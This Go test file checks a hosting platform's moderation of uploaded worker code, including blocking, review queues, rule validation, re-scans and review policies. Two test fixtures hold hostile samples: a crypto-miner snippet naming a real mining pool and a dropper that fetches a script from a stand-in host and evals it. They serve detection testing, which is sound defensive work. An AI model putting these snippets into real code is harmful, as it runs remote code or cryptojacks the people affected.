package models_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/402claw/402claw/models"
	"github.com/402claw/402claw/models/modeltest"
	"github.com/402claw/402claw/models/scan"
)

const (
	minerCode   = "const pool = 'stratum+tcp://pool.supportxmr.com:3333';\nexport default { fetch() { return new Response(pool) } }"
	dropperCode = "export default { async fetch() {\n  const r = await fetch('https://x.example/p.js');\n  return eval(await r.text());\n} }"
	normalCode  = "export default { fetch(req) { return Response.json({ ok: true, path: new URL(req.url).pathname }) } }"
)

func TestModerationOnSave(t *testing.T) {
	modeltest.Each(t, func(t *testing.T, db modeltest.DB) {
		ctx := context.Background()
		s := models.NewStore(db.Gorm)
		rules, err := s.ModerationRules(ctx)
		if err != nil || len(rules) != len(scan.Defaults()) {
			t.Fatalf("seeded rules = %d, %v; want the %d defaults", len(rules), err, len(scan.Defaults()))
		}
		acme := newTenant(t, s, "Acme")
		app, err := s.CreateApp(ctx, acme, "mod-app", "Mod")
		if err != nil {
			t.Fatal(err)
		}
		cases := []struct {
			name, code string
			blocked    string // rule name that refuses the save
			state      string
			rule       string // a rule among the matches
		}{
			{"miner is refused", minerCode, "crypto-mining", "", ""},
			{"dropper waits for review", dropperCode, "", models.ReviewPending, "eval-of-fetched-code"},
			{"normal API passes", normalCode, "", models.ReviewNone, ""},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				v, err := s.CreateVersion(ctx, app, 1, newVersion(c.code))
				var be *models.BlockedError
				if c.blocked != "" {
					if !errors.As(err, &be) || be.Rule != c.blocked || be.Message == "" || len(be.Matches) == 0 {
						t.Fatalf("save = %v, %v; want blocked by %s", v, err, c.blocked)
					}
					return
				}
				if err != nil {
					t.Fatal(err)
				}
				if v.ReviewState != c.state {
					t.Fatalf("state %q, want %q", v.ReviewState, c.state)
				}
				if c.rule != "" {
					if len(v.ScanMatches) == 0 || v.ScanMatches[0].Rule != c.rule || len(v.ScanMatches[0].Lines) == 0 || v.ScanMatches[0].Lines[0].N != 3 {
						t.Fatalf("matches %+v, want %s on line 3", v.ScanMatches, c.rule)
					}
					// The matches survive the round trip through the database.
					list, _ := s.Versions(ctx, app.ID)
					if list[0].ID != v.ID || len(list[0].ScanMatches) != len(v.ScanMatches) {
						t.Fatalf("listed matches %+v", list[0].ScanMatches)
					}
				}
			})
		}
		vs, _ := s.Versions(ctx, app.ID)
		if len(vs) != 2 {
			t.Fatalf("versions %d, want 2 (the miner was never stored)", len(vs))
		}
		flagged, clean := vs[1], vs[0]

		// A pending version cannot be deployed, by id or as "the newest".
		var re *models.ReviewError
		if _, err := s.Deploy(ctx, app, flagged.ID); !errors.As(err, &re) || re.State != models.ReviewPending {
			t.Fatalf("deploy pending = %v", err)
		}
		if _, err := s.Deploy(ctx, app, clean.ID); err != nil {
			t.Fatalf("deploy clean: %v", err)
		}
		q, err := s.ReviewQueue(ctx, "", 10)
		if err != nil || len(q) != 1 || q[0].Version.ID != flagged.ID || q[0].Tenant.ID != acme.ID || q[0].App.Slug != "mod-app" {
			t.Fatalf("queue = %+v, %v", q, err)
		}
		if prev, err := s.LastApprovedVersion(ctx, app.ID, flagged.Number+1); err != nil || prev != nil {
			t.Fatalf("last approved before v1 = %+v, %v", prev, err)
		}

		// Reject needs a reason; a decision on a stale state is refused; then reject sticks.
		if _, err := s.DecideReview(ctx, flagged.ID, models.ReviewPending, false, " ", 9); err == nil {
			t.Fatal("reject without a reason accepted")
		}
		if _, err := s.DecideReview(ctx, flagged.ID, models.ReviewApproved, false, "no", 9); !errors.Is(err, models.ErrReviewChanged) {
			t.Fatalf("stale decision = %v, want ErrReviewChanged", err)
		}
		if _, err := s.DecideReview(ctx, 999999, models.ReviewPending, true, "", 9); !errors.Is(err, models.ErrNotFound) {
			t.Fatalf("unknown version = %v", err)
		}
		v, err := s.DecideReview(ctx, flagged.ID, models.ReviewPending, false, "Runs code fetched at run time.", 9)
		if err != nil || v.ReviewState != models.ReviewRejected || v.ReviewReason != "Runs code fetched at run time." || v.ReviewedBy == nil {
			t.Fatalf("reject = %+v, %v", v, err)
		}
		if _, err := s.DecideReview(ctx, flagged.ID, models.ReviewPending, true, "", 9); !errors.Is(err, models.ErrReviewChanged) {
			t.Fatalf("second decision = %v, want ErrReviewChanged", err)
		}
		if _, err := s.Deploy(ctx, app, flagged.ID); !errors.As(err, &re) || re.State != models.ReviewRejected || !strings.Contains(err.Error(), "Runs code fetched") {
			t.Fatalf("deploy rejected = %v", err)
		}
		if h, err := s.TenantReviewHistory(ctx, acme.ID, 10); err != nil || len(h) != 1 || h[0].Version.ReviewState != models.ReviewRejected {
			t.Fatalf("history = %+v, %v", h, err)
		}
		if n, _ := s.PendingReviews(ctx); n != 0 {
			t.Fatalf("pending after decision = %d", n)
		}
	})
}

func TestModerationRules(t *testing.T) {
	modeltest.Each(t, func(t *testing.T, db modeltest.DB) {
		ctx := context.Background()
		s := models.NewStore(db.Gorm)
		bad := []struct {
			rule  models.ModerationRule
			field string
			want  string
		}{
			{models.ModerationRule{Name: "x", Kind: "pattern", Pattern: "a(b", Severity: "low", Action: "flag"}, "pattern", "at the end"},
			{models.ModerationRule{Name: "x", Kind: "pattern", Pattern: "ab[", Severity: "low", Action: "flag"}, "pattern", "at the end"},
			{models.ModerationRule{Name: "x", Kind: "pattern", Pattern: "a**", Severity: "low", Action: "flag"}, "pattern", "at character 2"},
			{models.ModerationRule{Name: "x", Kind: "pattern", Pattern: `(a+)+\1`, Severity: "low", Action: "flag"}, "pattern", "Invalid pattern"},
			{models.ModerationRule{Name: "x", Kind: "check", Pattern: "nope", Severity: "low", Action: "flag"}, "pattern", "unknown check"},
			{models.ModerationRule{Name: "x", Kind: "pattern", Pattern: "a", Severity: "huge", Action: "flag"}, "severity", ""},
			{models.ModerationRule{Name: "x", Kind: "pattern", Pattern: "a", Severity: "low", Action: "delete"}, "action", ""},
			{models.ModerationRule{Name: " ", Kind: "pattern", Pattern: "a", Severity: "low", Action: "flag"}, "name", ""},
			{models.ModerationRule{Name: "crypto-mining", Kind: "pattern", Pattern: "a", Severity: "low", Action: "flag"}, "name", "already"},
		}
		for _, c := range bad {
			r := c.rule
			err := s.SaveModerationRule(ctx, &r)
			fe, ok := models.AsFieldError(err)
			if !ok || fe.Field != c.field || !strings.Contains(fe.Message, c.want) {
				t.Errorf("save %+v = %v, want a %s error containing %q", c.rule, err, c.field, c.want)
			}
		}

		// A live version, then a new rule that matches it: the re-scan sends it back to review.
		acme := newTenant(t, s, "Acme")
		app, _ := s.CreateApp(ctx, acme, "live-app", "Live")
		v, err := s.CreateVersion(ctx, app, 1, newVersion(normalCode))
		if err != nil || v.ReviewState != models.ReviewNone {
			t.Fatalf("save = %+v, %v", v, err)
		}
		if _, err := s.Deploy(ctx, app, v.ID); err != nil {
			t.Fatal(err)
		}
		r := models.ModerationRule{Name: "pathname-probe", Kind: "pattern", Pattern: `\.pathname\b`, Severity: "low", Action: "block", Message: "m", Enabled: true}
		if err := s.SaveModerationRule(ctx, &r); err != nil {
			t.Fatal(err)
		}
		run, err := s.StartRescan(ctx, nil)
		if err != nil || run.Total != 1 {
			t.Fatalf("start = %+v, %v", run, err)
		}
		if _, err := s.StartRescan(ctx, nil); !errors.Is(err, models.ErrRescanRunning) {
			t.Fatalf("second start = %v", err)
		}
		if err := s.RunRescan(ctx, run.ID); err != nil {
			t.Fatal(err)
		}
		last, err := s.LatestRescan(ctx)
		if err != nil || last.Done != 1 || last.Flagged != 1 || last.FinishedAt == nil || last.Error != "" {
			t.Fatalf("rescan = %+v, %v", last, err)
		}
		got, _ := s.VersionSources(ctx, app.ID, v.ID)
		if got.ReviewState != models.ReviewPending || len(got.ScanMatches) != 1 || got.ScanMatches[0].Rule != "pathname-probe" {
			t.Fatalf("after re-scan: %q %+v", got.ReviewState, got.ScanMatches)
		}
		// Approved with that match, a second re-scan leaves it alone.
		if _, err := s.DecideReview(ctx, v.ID, models.ReviewPending, true, "fine", 1); err != nil {
			t.Fatal(err)
		}
		run, _ = s.StartRescan(ctx, nil)
		if err := s.RunRescan(ctx, run.ID); err != nil {
			t.Fatal(err)
		}
		if last, _ := s.LatestRescan(ctx); last.Flagged != 0 {
			t.Fatalf("approved version flagged again: %+v", last)
		}
		// Disabled, the rule no longer blocks saves.
		r.Enabled = false
		if err := s.SaveModerationRule(ctx, &r); err != nil {
			t.Fatal(err)
		}
		if _, err := s.CreateVersion(ctx, app, 1, newVersion(normalCode)); err != nil {
			t.Fatalf("save with the rule disabled: %v", err)
		}
		if err := s.DeleteModerationRule(ctx, r.ID); err != nil {
			t.Fatal(err)
		}
		if err := s.DeleteModerationRule(ctx, r.ID); !errors.Is(err, models.ErrNotFound) {
			t.Fatalf("second delete = %v", err)
		}
	})
}

func TestReviewPolicy(t *testing.T) {
	modeltest.Each(t, func(t *testing.T, db modeltest.DB) {
		ctx := context.Background()
		s := models.NewStore(db.Gorm)
		acme := newTenant(t, s, "Acme")
		app, _ := s.CreateApp(ctx, acme, "pol-app", "Pol")
		if err := s.SetTenantReviewPolicy(ctx, acme.ID, "sometimes"); err == nil {
			t.Fatal("unknown policy accepted")
		}
		if err := s.SetTenantReviewPolicy(ctx, acme.ID, models.PolicyFirst); err != nil {
			t.Fatal(err)
		}
		v1, _ := s.CreateVersion(ctx, app, 1, newVersion(normalCode))
		if v1.ReviewState != models.ReviewPending {
			t.Fatalf("first version under 'first': %q", v1.ReviewState)
		}
		if _, err := s.DecideReview(ctx, v1.ID, models.ReviewPending, true, "", 1); err != nil {
			t.Fatal(err)
		}
		v2, _ := s.CreateVersion(ctx, app, 1, newVersion(normalCode+"\n"))
		if v2.ReviewState != models.ReviewNone {
			t.Fatalf("after one approval under 'first': %q", v2.ReviewState)
		}
		// The plan's policy applies when the tenant follows it.
		if err := s.SetTenantReviewPolicy(ctx, acme.ID, ""); err != nil {
			t.Fatal(err)
		}
		if err := db.Gorm.Model(&models.Plan{}).Where("key = ?", acme.PlanKey).Update("review_policy", models.PolicyAlways).Error; err != nil {
			t.Fatal(err)
		}
		v3, _ := s.CreateVersion(ctx, app, 1, newVersion(normalCode+"\n\n"))
		if v3.ReviewState != models.ReviewPending {
			t.Fatalf("plan 'always': %q", v3.ReviewState)
		}
	})
}
